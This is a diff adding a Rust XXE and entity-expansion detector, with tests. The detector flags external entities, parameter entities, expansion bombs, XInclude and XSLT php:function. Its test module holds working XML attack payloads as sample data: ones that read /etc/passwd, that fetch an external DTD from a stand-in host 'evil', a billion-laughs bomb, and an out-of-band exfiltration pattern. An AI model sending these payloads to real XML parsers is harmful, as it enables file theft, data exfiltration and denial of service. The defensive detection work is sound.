@@ -1,0 +1,184 @@
+//! XML external entities and entity expansion, by a small scanner of the DTD.
+//!
+//! Finds `<!DOCTYPE` and `<!ENTITY` declarations (case-insensitive, any blanks), and reads
+//! each entity declaration: parameter or general, and its definition — an external
+//! identifier (`SYSTEM "uri"`, `PUBLIC "id" "uri"`) or a literal value. External entities,
+//! parameter entities and their references (`%x;`), external DTD subsets, and literal values
+//! that reference other entities (expansion bombs) are reported. Also XInclude and XSLT
+//! document()/php:function access, which reach files the same way.
+
+use crate::other_util::{best, gate, mk, step, views};
+use crate::{Category, Detector, Hit, Input, Level};
+
+const NAME: &str = "xxe";
+
+pub struct XxeDetector;
+
+pub fn detector() -> Box<dyn Detector> {
+    Box::new(XxeDetector)
+}
+
+impl Detector for XxeDetector {
+    fn name(&self) -> &'static str {
+        NAME
+    }
+
+    fn check(&self, input: &Input<'_>, level: Level) -> Option<Hit> {
+        let mut h = None;
+        for v in views(input.decoded).iter().filter(|v| !v.is_empty()) {
+            h = best(h, analyse(v));
+        }
+        gate(h, level)
+    }
+}
+
+fn skip_ws(b: &[u8], mut i: usize) -> usize {
+    let lim = (i + 256).min(b.len());
+    while i < lim && b[i].is_ascii_whitespace() {
+        i += 1;
+    }
+    i
+}
+
+fn word(b: &[u8], i: usize) -> usize {
+    let mut j = i;
+    let lim = (i + 256).min(b.len());
+    while j < lim && !b[j].is_ascii_whitespace() && !matches!(b[j], b'>' | b'"' | b'\'' | b'[') {
+        j += 1;
+    }
+    j
+}
+
+fn analyse(s: &str) -> Option<Hit> {
+    let l = s.to_ascii_lowercase();
+    let b = l.as_bytes();
+    step(b.len());
+    let mut out: Option<Hit> = None;
+    let mut put = |c: u8, frag: &str, why: &'static str| out = best(out.take(), Some(mk(NAME, Category::Xxe, c, frag, why)));
+    let mut entities = 0u32;
+    let mut refs_in_values = 0u32;
+    for (p, _) in l.match_indices("<!") {
+        step(1);
+        let rest = &l[p + 2..];
+        if rest.starts_with("doctype") {
+            // <!DOCTYPE name SYSTEM "uri"> / PUBLIC "id" "uri"
+            let i = skip_ws(b, p + 9);
+            let i = skip_ws(b, word(b, i));
+            let kw = &l[i..word(b, i).min(l.len())];
+            if kw == "system" || kw == "public" {
+                put(85, &s[p..], "DOCTYPE with an external DTD");
+            }
+        } else if rest.starts_with("entity") {
+            entities += 1;
+            let mut i = skip_ws(b, p + 8);
+            let param = b.get(i) == Some(&b'%');
+            if param {
+                i = skip_ws(b, i + 1);
+            }
+            let i = skip_ws(b, word(b, i));
+            let kw_end = word(b, i);
+            let kw = &l[i..kw_end];
+            if kw == "system" || kw == "public" {
+                put(95, &s[p..], "external entity declaration");
+            } else if param {
+                put(90, &s[p..], "parameter entity declaration");
+            } else if matches!(b.get(i), Some(b'"' | b'\'')) {
+                let q = b[i];
+                let win = (i + 1 + 4096).min(l.len());
+                let end = l.get(i + 1..win).and_then(|w| w.find(q as char)).map_or(win, |e| i + 1 + e);
+                let val = &l[i + 1..end];
+                if val.contains('&') && val.contains(';') {
+                    refs_in_values += 1;
+                }
+                if val.contains("<!entity") || val.contains("&#37;") {
+                    put(90, &s[p..], "nested entity declaration");
+                }
+            }
+        }
+    }
+    if entities > 0 {
+        put(60, s, "DTD entity declaration in a value");
+    }
+    if refs_in_values >= 1 && entities >= 2 {
+        put(90, s, "entity expansion (entities referencing entities)");
+    }
+    // Parameter entity references `%name;` inside a DTD.
+    if l.contains("<!doctype") || l.contains("<!entity") {
+        for (p, _) in l.match_indices('%') {
+            step(1);
+            let e = word(b, p + 1);
+            if e > p + 1 && l.as_bytes().get(e) != Some(&b'"') && l[..e.min(l.len())].ends_with(';') {
+                put(85, &s[p..], "parameter entity reference");
+                break;
+            }
+        }
+    }
+    // Markup split across CDATA sections (`<![CDATA[<]]>script`) reassembles in the parser.
+    if l.contains("<![cdata[") {
+        let joined = l.replace("<![cdata[", "").replace("]]>", "");
+        step(l.len() * 2);
+        if joined.contains("<script") || joined.contains("javascript:") || joined.contains("onerror=") {
+            out = best(out.take(), Some(mk(NAME, Category::Xss, 80, s, "markup smuggled through CDATA sections")));
+        }
+    }
+    let mut put = |c: u8, frag: &str, why: &'static str| out = best(out.take(), Some(mk(NAME, Category::Xxe, c, frag, why)));
+    for (pat, c, why) in [
+        ("xi:include", 85u8, "XInclude"),
+        ("xmlns:xi=\"http://www.w3.org/2001/xinclude\"", 80, "XInclude namespace"),
+        ("php:function(", 95, "XSLT php:function"),
+        ("xmlns:php=\"http://php.net/xsl\"", 70, "XSLT with PHP functions"),
+        ("document('", 70, "XSLT document()"),
+        ("document(\"", 70, "XSLT document()"),
+        ("<?import ", 70, "HTML component import"),
+        ("datasrc=", 60, "data island binding"),
+    ] {
+        if let Some(p) = l.find(pat) {
+            put(c, &s[p..], why);
+        }
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::other_util::take_steps;
+    use crate::FieldKind;
+
+    fn q(v: &str) -> u8 {
+        detector().check(&Input { raw: v, decoded: v, field: FieldKind::XmlDocument }, Level::Strict).map_or(0, |h| h.confidence)
+    }
+
+    #[test]
+    fn attacks() {
+        for v in [
+            "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
+            "<!DOCTYPE foo [<!ENTITY % dtd SYSTEM \"http://evil/x.dtd\"> %dtd;]>",
+            "<!DOCTYPE foo SYSTEM \"http://evil/x.dtd\"><foo/>",
+            "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;\">]><lolz>&lol2;</lolz>",
+            "<!doctype x [ <!entity   xxe   public \"-//x\" \"http://e/\"> ]>",
+            "<xi:include href=\"file:///etc/passwd\" parse=\"text\"/>",
+            "<!ENTITY % int \"<!ENTITY &#37; trick SYSTEM 'http://127.0.0.1/?%file;'>\"> %int;",
+        ] {
+            assert!(q(v) >= 60, "{v}: {}", q(v));
+        }
+    }
+
+    #[test]
+    fn benign() {
+        for v in ["<?xml version=\"1.0\"?><a>b</a>", "<!DOCTYPE html><html></html>", "<!-- comment --><a/>", "100% of <b>x</b>", "<!DOCTYPE note PUBLICATION>"]
+        {
+            assert!(q(v) < 60, "{v}: {}", q(v));
+        }
+    }
+
+    #[test]
+    fn linear() {
+        for unit in ["<!ENTITY ", "<!DOCTYPE ", "%x;", "<!"] {
+            let v = unit.repeat(1_000_000 / unit.len());
+            take_steps();
+            let _ = detector().check(&Input { raw: &v, decoded: &v, field: FieldKind::XmlDocument }, Level::Strict);
+            assert!(take_steps() < 80 * v.len() as u64, "{unit}");
+        }
+    }
+}
